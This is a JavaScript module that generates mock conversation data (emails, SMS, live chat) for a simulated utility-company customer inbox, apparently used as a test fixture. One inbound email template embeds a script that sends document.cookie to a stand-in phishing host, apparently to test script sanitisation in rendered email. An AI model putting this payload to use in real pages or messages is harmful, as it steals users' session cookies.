'use strict';
// Ink (Kraken's omni-channel inbox): one conversation per account with events newest
// first -- emails (HTML, some with remote images and a <script>), SMS and live chat, each
// event carrying its message as the reference's InkNewMessage does --
// plus the live-chat conversation list with statuses.
const { stream } = require('./prng');
const { DAY, toMs, isoDateTime } = require('./dates');
const { TODAY } = require('./accounts');

const relayId = (type, id) => Buffer.from(`${type}:${id}`, 'utf8').toString('base64');
const BUCKETS = [
  ['1', 'Billing enquiries', 'receipt'], ['2', 'Collections', 'money'], ['3', 'Moves', 'truck'],
  ['4', 'Complaints', 'alert'], ['5', 'Live chat', 'chat'], ['6', 'Solar & metering', 'sun'],
].map(([id, name, icon]) => ({ id: relayId('InkBucket', id), name, icon }));
const TAGS = [
  ['11', 'Bill query'], ['12', 'Payment extension'], ['13', 'Life support'],
  ['14', 'Solar'], ['15', 'Complaint'], ['16', 'Move in'], ['17', 'Hardship'],
].map(([id, name]) => ({ id: relayId('InkTag', id), name }));
const SUPPORT = 'hello@redenergy.com.au';
const SMS_FROM = '+61480088818';

function fromRelayId(value) {
  const s = String(value || '');
  if (/^\d+$/.test(s)) return { type: null, id: s };
  const text = Buffer.from(s, 'base64').toString('utf8');
  const m = /^([A-Za-z]+):(\d+)$/.exec(text);
  return m ? { type: m[1], id: m[2] } : null;
}

const escapeHtml = (s) => String(s).replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

function emailTemplates(a) {
  const name = a.user.givenName;
  const amount = (Math.abs(a.balance) / 100).toFixed(2);
  return [
    {
      subject: 'Your Red Energy bill is ready', direction: 'OUTBOUND', remoteImages: true, script: false,
      text: `Hi ${name},\n\nYour latest bill for ${a.address.line1} is ready. Amount due: $${amount}.\nLog in to My Account to view it.\n\nRed Energy`,
      html: `<html><body style="font-family:Arial"><img src="https://assets.redenergy.com.au/email/red-energy-logo.png" alt="Red Energy" width="160"><p>Hi ${escapeHtml(name)},</p><p>Your latest bill for <b>${escapeHtml(a.address.line1)}</b> is ready.</p><table><tr><td>Amount due</td><td><b>$${amount}</b></td></tr></table><p><a href="https://www.redenergy.com.au/login">View your bill</a></p><img src="https://t.redenergy.com.au/open.gif?m=${a.number}" width="1" height="1"></body></html>`,
    },
    {
      subject: 'Re: Question about my last bill', direction: 'INBOUND', remoteImages: true, script: true,
      text: `Hi,\n\nMy last bill looks a lot higher than usual. Was the meter actually read? Account ${a.number}.\n\nThanks,\n${a.user.givenName} ${a.user.familyName}`,
      html: `<div dir="ltr"><p>Hi,</p><p>My last bill looks a lot higher than usual. Was the meter actually read? Account ${a.number}.</p><p>Thanks,<br>${escapeHtml(a.user.givenName + ' ' + a.user.familyName)}</p><img src="https://mail-tracker.example-mailer.com.au/pixel/${a.idx}.png"><script>document.location='https://phish.example.net/?c='+document.cookie</script></div>`,
    },
    {
      subject: 'Welcome to Red Energy', direction: 'OUTBOUND', remoteImages: true, script: false,
      text: `Welcome ${name}! Your electricity at ${a.address.line1} is now with Red Energy. Your account number is ${a.number}.`,
      html: `<html><body><img src="https://assets.redenergy.com.au/email/welcome-banner.jpg" alt="Welcome"><h1>Welcome, ${escapeHtml(name)}!</h1><p>Your electricity at ${escapeHtml(a.address.line1)} is now with Red Energy.</p><p>Account number: <b>${a.number}</b></p></body></html>`,
    },
    {
      subject: 'Payment received -- thank you', direction: 'OUTBOUND', remoteImages: false, script: false,
      text: `Hi ${name}, we've received your payment. Thanks for being with Red Energy.`,
      html: `<p>Hi ${escapeHtml(name)},</p><p>We've received your payment. Thanks for being with Red Energy.</p>`,
    },
  ];
}

const SMS_TEXTS = [
  (a) => ['OUTBOUND', `Red Energy: Hi ${a.user.givenName}, your bill of $${(Math.abs(a.balance) / 100).toFixed(2)} is due in 3 days. Pay via the app or BPAY. Reply STOP to opt out.`],
  (a) => ['OUTBOUND', `Red Energy: a technician will read your meter at ${a.address.line1} on Thursday. Please ensure access.`],
  () => ['INBOUND', 'Can I get an extension on this one? Will pay next Friday.'],
  () => ['INBOUND', 'Thanks, got it.'],
  () => ['OUTBOUND', 'Red Energy: Thanks, we have extended your due date by 14 days.'],
];
const CHAT_TEXTS = [
  ['INBOUND', 'Hi, I am moving house next month, how do I transfer my electricity?'],
  ['OUTBOUND', 'Thanks for reaching out! I can help with that. What is the new address and move-in date?'],
  ['INBOUND', 'Why has my direct debit not come out this month?'],
  ['OUTBOUND', 'Let me check your account now -- one moment please.'],
  ['INBOUND', 'My solar feed-in credit is missing from my bill.'],
  ['OUTBOUND', 'I can see the export readings from your meter; the credit will appear on your next bill.'],
];

/**
 * Events newest first, in the reference's shape: [{__typename:'InkNewMessage', occurredAt,
 * message}]. The reference gives emails and SMS no id (only live chat and generic messages
 * are Nodes), so `pk` (never served) is what the store finds a message by.
 */
function generateConversation(seed, a) {
  const rng = stream(seed, 'ink', a.idx);
  const count = a.inkEvents || (a.status === 'PENDING' ? rng.int(1, 3) : rng.int(3, 40));
  const conversationId = String(4000000 + a.idx);
  const conversationRelayId = relayId('InkConversation', conversationId);
  const fullName = `${a.user.givenName} ${a.user.familyName}`;
  const emailIdentity = { channel: 'EMAIL', handle: a.user.email, displayName: fullName };
  const smsIdentity = { channel: 'SMS', handle: a.user.mobile, displayName: fullName };
  const chatIdentity = { channel: 'LIVE_CHAT', handle: a.user.email, displayName: fullName };
  const emails = emailTemplates(a);
  const events = new Array(count);
  let t = toMs(TODAY) - rng.int(1, 72) * 3600000;
  const spacing = a.inkEvents ? 3 * 3600000 : 18 * DAY;
  for (let i = 0; i < count; i++) {
    const pk = String(a.idx * 10000 + (count - i));
    const kind = rng.weighted([['EMAIL', 45], ['SMS', 35], ['CHAT', 20]]);
    const occurredAt = isoDateTime(t);
    // Every 37th message failed to deliver (not drawn from rng: the fixed data stays as it was).
    const delivery = { status: Number(pk) % 37 === 0 ? 'FAILED' : 'DELIVERED' };
    let message;
    if (kind === 'EMAIL') {
      const e = rng.pick(emails);
      const inbound = e.direction === 'INBOUND';
      message = {
        __typename: 'InkEmail', pk, direction: e.direction, occurredAt, subject: e.subject,
        fromHandle: inbound ? a.user.email : SUPPORT, toHandles: [inbound ? SUPPORT : a.user.email], cc: [],
        displayContent: e.text.slice(0, 140), fullContentHtml: e.html, fullContentPlainText: e.text, textContent: e.text,
        attachments: e.subject.startsWith('Your Red Energy bill')
          ? [{ filename: `bill-${a.number}.pdf`, sizeInBytes: 184320, fetchUrl: `https://sandbox.kraken.test/ink/attachments/${pk}1.pdf` }] : [],
        delivery, contactChannelIdentity: emailIdentity, isChannelEmail: true, tags: [],
        conversationId: Number(conversationId), conversationRelayId,
      };
    } else if (kind === 'SMS') {
      const [direction, text] = rng.pick(SMS_TEXTS)(a);
      message = {
        __typename: 'InkSMS', pk, direction, occurredAt,
        fromHandle: direction === 'INBOUND' ? a.user.mobile : SMS_FROM, toHandle: direction === 'INBOUND' ? SMS_FROM : a.user.mobile,
        displayContent: text, textContent: text, delivery, contactChannelIdentity: smsIdentity, isChannelSms: true, tags: [],
      };
    } else {
      const [direction, text] = rng.pick(CHAT_TEXTS);
      message = {
        __typename: 'InkLiveChatMessage', pk, id: relayId('InkLiveChatMessage', pk), direction, occurredAt,
        fromHandle: direction === 'INBOUND' ? a.user.email : 'Red Energy', toHandle: direction === 'INBOUND' ? 'Red Energy' : a.user.email,
        displayContent: text, textContent: text, delivery, contactChannelIdentity: chatIdentity,
      };
    }
    events[i] = { __typename: 'InkNewMessage', pk, occurredAt, message };
    t -= Math.max(60000, Math.round(spacing * (0.3 + rng.float() * 1.4)));
  }
  const status = a.inkEvents ? 'OPEN' : rng.weighted([['OPEN', 2], ['CLOSED', 6], ['SNOOZED', 1]]);
  const buckets = a.inkEvents ? [BUCKETS[4], BUCKETS[0]] : [rng.pick(BUCKETS)];
  const tags = a.lifeSupport ? [TAGS[2]] : a.hardship ? [TAGS[6]] : a.inkEvents ? [TAGS[0], TAGS[3]] : rng.chance(0.5) ? [rng.pick(TAGS)] : [];
  return {
    id: conversationId, relayId: relayId('InkConversation', conversationId), accountIdx: a.idx, accountNumber: a.number,
    status, buckets, tags, events, lastMessageAt: count ? events[0].occurredAt : null,
  };
}

/**
 * Live-chat conversation headers (no events): fixed A-8E4B92D1 first (OPEN), then
 * a deterministic sample of accounts. [{id, accountIdx, status, lastMessageAt}]
 */
function liveChatHeaders(seed, accountCount, fixedIdx) {
  const rng = stream(seed, 'livechat', 0);
  const n = Math.min(accountCount, 240);
  const seen = new Set([fixedIdx]);
  const out = [{ id: String(4000000 + fixedIdx), accountIdx: fixedIdx, status: 'OPEN', lastMessageAt: isoDateTime(toMs(TODAY) - 15 * 60000) }];
  for (let i = 1; i < n; i++) {
    const idx = rng.int(7, accountCount - 1);
    if (seen.has(idx)) continue;
    seen.add(idx);
    out.push({
      id: String(4000000 + idx), accountIdx: idx,
      status: rng.weighted([['OPEN', 3], ['SNOOZED', 1], ['CLOSED', 6]]),
      lastMessageAt: isoDateTime(toMs(TODAY) - rng.int(5, 60 * 24 * 30) * 60000),
    });
  }
  out.sort((x, y) => (x.lastMessageAt < y.lastMessageAt ? 1 : x.lastMessageAt > y.lastMessageAt ? -1 : 0));
  return out;
}

module.exports = { generateConversation, liveChatHeaders, relayId, fromRelayId, BUCKETS, TAGS };
